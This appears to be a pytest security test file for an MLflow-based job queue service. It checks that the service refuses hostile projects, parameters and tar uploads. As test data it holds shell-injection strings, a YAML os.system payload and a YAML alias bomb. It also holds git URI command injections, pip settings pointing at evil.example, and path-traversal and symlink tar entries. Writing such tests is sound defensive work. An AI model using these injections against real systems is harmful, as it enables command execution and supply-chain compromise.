"""What must not run, or must run as exactly what was given: projects, parameters and uploads of people who mean no good."""

import io
import json
import os
import re
import tarfile
import uuid

import mlflow
import pytest
import requests
from mlflow.exceptions import ExecutionException
from repository import Repository
from working import WORKER, ended, install, millrace, mlflow_run, worker

SHOW = "import json, sys; print('seen:' + json.dumps(sys.argv[1:]), flush=True)"
VALUES = [
    "it's",
    'a "b"',
    "x; touch pwned",
    "$(touch pwned)",
    "`touch pwned`",
    "$HOME ${HOME}",
    "two\nlines\n",
    "-rf",
    "--help",
    "",
    " ",
    "é 漢 🙂",
    "* ~ ? [a]",
    "a && b || c | d > pwned",
    "!x",
    "back\\slash\\",
    "{name} %s #",
    "tab\there",
    "a=b",
    "=x",
    "\r",
    "'; touch pwned; '",
]


def tar(*entries):
    """A tar file of names with contents, or with what else there is in tar files."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, content in entries:
            info = tarfile.TarInfo(name)
            if isinstance(content, bytes):
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
            else:
                info.type, info.linkname = content
                archive.addfile(info)
    return packed.getvalue()


def upload(url, body):
    return requests.post(f"{url}/api/v1/projects:upload", data=body, headers={"Content-Type": "application/octet-stream"})


@pytest.fixture(scope="module")
def repository(tmp_path_factory):
    folder = tmp_path_factory.mktemp("git") / "repository"
    folder.mkdir()
    with Repository(folder) as served:
        declared = "".join(f"\n      p{i}: string" for i in range(len(VALUES)))
        words = " ".join("{p%d}" % i for i in range(len(VALUES)))
        served.commit(
            {
                "MLproject": f"entry_points:\n  main:\n    parameters:{declared}\n    command: python show.py {words}",
                "show.py": SHOW + "\nimport os; print('files:', sorted(os.listdir()))",
            }
        )
        yield served


@pytest.fixture
def queue(url):
    """A queue that nobody works for."""
    name = f"q-{uuid.uuid4().hex[:20]}"
    assert requests.patch(f"{url}/api/v1/queues/{name}", json={"is_closed": False}).status_code == 200
    return name


@pytest.fixture
def refused(url, client, experiment, queue):
    """Asks for a job that there must not be."""

    def refused(status, said, **spec):
        asked = {"queue": queue, "experiment_id": experiment} | spec
        answer = requests.post(f"{url}/api/v1/jobs", json=asked)
        assert answer.status_code == status, answer.text
        assert said in answer.json()["message"]
        assert "jobs" not in requests.get(f"{url}/api/v1/jobs", params={"queue": queue}).json()
        assert not client.search_runs([experiment])

    return refused


@pytest.mark.skipif(not WORKER, reason="MILLRACE_PROGRAM holds no command that starts a worker")
def test_values_arrive_as_they_were_given(url, repository, tmp_path_factory):
    names = [f"p{i}" for i in range(len(VALUES))] + ["extra"]
    given = dict(zip(names, [*VALUES, "x'; y"]))
    words = [word for name, value in given.items() for word in ("-P", f"{name}={value}")]
    seen = [*VALUES, "--extra", "x'; y"]
    package = install(tmp_path_factory.mktemp("site"))
    with worker(url, tmp_path_factory.mktemp("worker")) as queue:
        made = requests.post(
            f"{url}/api/v1/jobs", json={"uri": repository.url, "queue": queue, "env_manager": "LOCAL", "parameters": given}
        )
        job = ended(url, made.json()["job"]["job_id"])
        assert job["state"] == "SUCCEEDED", job
        log = requests.get(f"{url}/api/v1/jobs/{job['job_id']}/logs")
        config = json.dumps({"queue": queue})
        outputs = {
            "REST": log.content.decode(),
            "command": millrace("run", repository.url, *words, "-q", queue, "--env-manager", "local").stdout,
            "plug-in": mlflow_run(
                repository.url, *words, "-b", "millrace", "-c", config, "--env-manager", "local", variables=package
            ).stdout,
        }
    for way, output in outputs.items():
        assert json.loads(re.search(r"^seen:(.*)$", output, re.MULTILINE).group(1)) == seen, way
        assert "files: ['MLproject', 'show.py']" in output, way
    kept = requests.get(f"{url}/api/2.0/mlflow/runs/get", params={"run_id": job["run_id"]}).json()["run"]["data"]["params"]
    assert {param["key"]: param.get("value", "") for param in kept} == given


MAIN = {"MLproject": "entry_points: {main: {parameters: {n: {default: 1}}, command: 'echo {n}'}}"}
BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join(['*' + a] * 10)}]\n" for a, b in zip("abcdefgh", "bcdefghi")
)


WRONG = [
    ({"MLproject": BOMB + "name: x"}, "MLproject"),
    ({"MLproject": "name: !!python/object/apply:os.system ['touch pwned']"}, "MLproject"),
    ({"MLproject": "name: x\nname: y"}, "name"),
    ({"MLproject": "entry_points: [main]"}, "'entry_points' must be a map"),
    ({"MLproject": "entry_points: {other: {command: ls}}"}, "Could not find main among entry points"),
    ({"MLproject": "entry_points: {main: {}}"}, "Entry point 'main' has no command."),
    ({"MLproject": "entry_points: {main: {command: [ls]}}"}, "entry_points.main.command"),
    ({"MLproject": "entry_points: {main: {command: 'echo ${HOME}'}}"}, "HOME"),
    ({"MLproject": "entry_points: {main: {command: 'echo {x'}}"}, "main"),
    ({"MLproject": "python_env: a\nconda_env: b"}, "python_env"),
    ({"MLproject": "python_env: ../../../etc/passwd"}, "python_env"),
    ({"MLproject": "docker_env: {volumes: [/:/host]}"}, "docker_env"),
    (MAIN | {"python_env.yaml": "python: 3.10"}, "python_env.yaml"),
    (MAIN | {"python_env.yaml": "poetry: yes"}, "poetry"),
    (MAIN | {"python_env.yaml": "dependencies: []\npython: abc"}, "python_env.yaml line 2"),
    (MAIN | {"python_env.yaml": "python: '99.1'"}, "no version of Python 3"),
    (MAIN | {"python_env.yaml": "dependencies:\n- six\n- -e ."}, "python_env.yaml line 3"),
    ({"MLproject": "entry_points: {main: {parameters: {d: {type: path, default: ../x}}, command: 'cat {d}'}}"}, "parameter d"),
    ({"MLproject": "entry_points: {main: {parameters: {d: {type: path, default: 's3://b/x'}}, command: 'cat {d}'}}"}, "parameters.d"),
    (MAIN | {"python_env.yaml": "dependencies: {a: 1}"}, "dependencies"),
    (MAIN | {"python_env.yaml": "dependencies: ['--index-url http://evil.example/simple']"}, "asks another index"),
    (MAIN | {"python_env.yaml": "dependencies: ['six --extra-index-url=http://evil.example']"}, "--extra-index-url"),
    (MAIN | {"python_env.yaml": "build_dependencies: [-e .]"}, "runs the code of a project"),
    (MAIN | {"python_env.yaml": "dependencies: ['file:///etc/passwd']"}, "file by its URL"),
    (MAIN | {"python_env.yaml": "dependencies: ['six @ https://evil.example/six.whl']"}, "fetches from"),
    (MAIN | {"python_env.yaml": "dependencies: [-r ../../../etc/passwd]"}, "not in the folder"),
    (MAIN | {"python_env.yaml": 'dependencies: ["six\\n--index-url http://evil.example"]'}, "control characters"),
    (
        MAIN | {"python_env.yaml": "dependencies: [-r more/all.txt]", "more/all.txt": "six\n--trusted-host evil.example\n"},
        "more/all.txt",
    ),
    (
        MAIN | {"conda.yaml": "dependencies: [python=3.11, pip, {pip: ['--find-links http://evil.example']}]"},
        "looks for packages elsewhere",
    ),
]


@pytest.fixture(scope="module")
def uploaded():
    """The URI of a folder that has all of them, and a good one."""
    files = {f"case{i}/{path}": text for i, (files, _) in enumerate(WRONG) for path, text in files.items()}
    files |= {f"good/{path}": text for path, text in MAIN.items()}
    answer = upload(os.environ["MLFLOW_TRACKING_URI"], tar(*((path, text.encode()) for path, text in files.items())))
    assert answer.status_code == 200, answer.text
    return answer.json()["uri"]


@pytest.mark.parametrize("case", range(len(WRONG)), ids=[said for _, said in WRONG])
def test_a_project_that_is_wrong_is_refused_before_anything_runs(refused, uploaded, case):
    refused(400, WRONG[case][1], uri=f"{uploaded}#case{case}")


@pytest.mark.parametrize(
    "status, said, spec",
    [
        (400, "uri", {"uri": ""}),
        (400, "'uri'", {"uri": "/etc"}),
        (400, "'uri'", {"uri": "../.."}),
        (400, "'uri'", {"uri": "file:///etc"}),
        (400, "'uri'", {"uri": "ext::sh -c touch% pwned"}),
        (400, "'uri'", {"uri": "--upload-pack=touch pwned"}),
        (400, "'uri'", {"uri": "git@-oProxyCommand=touch:x"}),
        (400, "'uri'", {"uri": "https://me:secret@example.com/x"}),
        (400, "'uri'", {"uri": "https://example.com/x.zip"}),
        (404, "projects/" + "0" * 64, {"uri": "projects/" + "0" * 64}),
        (404, "no git repository", {"uri": "{url}/nothing"}),
        (404, "nope", {"uri": "{url}", "version": "nope"}),
        (404, "sub", {"uri": "{url}#sub"}),
        (400, "'.' is not allowed", {"uri": "{url}#../x"}),
        (404, "nobody's", {"uri": "{url}", "credentials": "nobody's"}),
        (400, "version", {"version": "main"}),
        (400, "parameters.n", {"parameters": {"n": {"a": 1}}}),
        (400, "parameters.n", {"parameters": {"n": "x" * 6001}}),
        (400, "NUL", {"parameters": {"n": "a\0b"}}),
        (400, "a;b", {"parameters": {"a;b": 1}}),
        (400, "$(touch pwned)", {"parameters": {"$(touch pwned)": 1}}),
        (400, "../x", {"parameters": {"../x": 1}}),
        (400, "parameters", {"parameters": {"x" * 251: 1}}),
        (400, "entry_point", {"entry_point": "x" * 9000 + ".sh"}),
        (400, "'entry_point'", {"entry_point": "none.py"}),
        (400, "'env_manager'", {"env_manager": "CONDA"}),
        (400, "run_name", {"run_name": "x" * 9000}),
        (400, "tags.k", {"tags": {"k": "x" * 8001}}),
        (400, "tags", {"tags": {"a;b": "x"}}),
        (400, "tags.millrace.jobId", {"tags": {"millrace.jobId": "x"}}),
        (400, "env.MLFLOW_RUN_ID", {"env": {"MLFLOW_RUN_ID": "x"}}),
        (400, "env", {"env": {"A=B": "x"}}),
        (400, "env.A", {"env": {"A": "a\0b"}}),
        (400, "max_attempts", {"max_attempts": 101}),
        (400, "retry_delay", {"retry_delay": "-1s"}),
        (400, "timeout", {"timeout": "0s"}),
        (400, "resources.gpus", {"resources": {"gpus": -1}}),
        (400, "priority", {"priority": "high"}),
        (400, "env_manager", {"env_manager": "POETRY"}),
        (400, "experiment_name", {"experiment_name": "x"}),
        (404, "Queue 'nowhere' not found.", {"queue": "nowhere"}),
    ],
)
def test_a_job_that_is_wrong_is_refused_with_the_field(refused, repository, uploaded, status, said, spec):
    asked = {"uri": f"{uploaded}#good"} | spec
    refused(status, said, **asked | {"uri": asked["uri"].replace("{url}", repository.url)})


def test_a_huge_repository_is_refused(refused, tmp_path):
    folder = tmp_path / "repository"
    folder.mkdir()
    with open(folder / "zeros", "wb") as file:
        file.truncate(101 << 20)
    with Repository(folder) as served:
        served.commit(MAIN)
        refused(400, "too large", uri=served.url)


@pytest.mark.parametrize(
    "body, said",
    [
        (tar(("/etc/passwd", b"x")), "/etc/passwd"),
        (tar(("a/../../b", b"x")), "a/../../b"),
        (tar(("link", (tarfile.SYMTYPE, "/etc/passwd"))), "link"),
        (tar(("link", (tarfile.SYMTYPE, "../x"))), "link"),
        (tar(("link", (tarfile.SYMTYPE, ".")), ("link/x", b"x")), "link"),
        (tar(("a", b"x"), ("link", (tarfile.LNKTYPE, "a"))), "link"),
        (tar(("null", (tarfile.CHRTYPE, ""))), "null"),
        (tar(("disk", (tarfile.BLKTYPE, ""))), "disk"),
        (tar(("pipe", (tarfile.FIFOTYPE, ""))), "pipe"),
        (tar(("a", b"x"), ("a", b"y")), "a"),
        (tar(), "no entries"),
        (b"no tar at all, but long enough to be one" * 100, ""),
        (tar(("a", b"x" * 4000))[:3000], ""),
    ],
    ids=lambda value: "" if isinstance(value, bytes) else value.replace("/", "-"),
)
def test_an_upload_that_is_wrong_is_refused(url, body, said):
    answer = upload(url, body)
    assert answer.status_code == 400, answer.text
    assert answer.json()["error_code"] == "INVALID_PARAMETER_VALUE" and said in answer.json()["message"]


@pytest.mark.skipif(not WORKER, reason="MILLRACE_PROGRAM holds no command that starts it")
def test_the_programs_say_it_in_a_line(repository, queue, experiment, client, tmp_path, tmp_path_factory, monkeypatch):
    for path in reversed(install(tmp_path_factory.mktemp("site"))["PYTHONPATH"].split(os.pathsep)):
        monkeypatch.syspath_prepend(path)
    (tmp_path / "pipe").mkdir()
    os.mkfifo(tmp_path / "pipe" / "fifo")
    for uri, asked, config, said in (
        (repository.url, {"entry_point": "zzz"}, {}, "Could not find zzz among entry points"),
        (repository.url, {"version": "nope"}, {}, "nope"),
        (repository.url, {}, {"queue": "nowhere"}, "Queue 'nowhere' not found."),
        (repository.url, {}, {"qeue": "x"}, "Unknown 'qeue' in the backend config"),
        (repository.url, {"build_image": True}, {}, "--build-image"),
        ("./absent", {}, {}, "There is no folder 'absent'"),
        ("pipe", {}, {}, "'fifo' is neither a file nor a folder nor a link"),
        (".", {"version": "main"}, {}, "Setting a version is only supported for Git project URIs"),
    ):
        # What MLflow's command line ends with 1 for, and one line.
        with pytest.raises(ExecutionException) as failure:
            mlflow.projects.run(
                uri, backend="millrace", backend_config={"queue": queue} | config, experiment_id=experiment, synchronous=False, **asked
            )
        assert said in str(failure.value)
    where = ["--experiment-id", experiment]
    for words, code, said in (
        ([repository.url, "-e", "zzz"], 1, "Could not find zzz among entry points"),
        (["./absent"], 1, "there is no folder './absent'"),
        (["pipe"], 1, "fifo is neither a file nor a folder nor a link"),
        ([repository.url, "-P", "a"], 2, "Invalid format for -P: 'a'. Use -P name=value."),
        ([repository.url, "--schedule", "61 2 * * *"], 1, "cron"),
    ):
        done = millrace("run", *words, *where, "--queue", queue, cwd=tmp_path)
        assert done.returncode == code and said in done.stderr, done.stderr
    assert not client.search_runs([experiment])
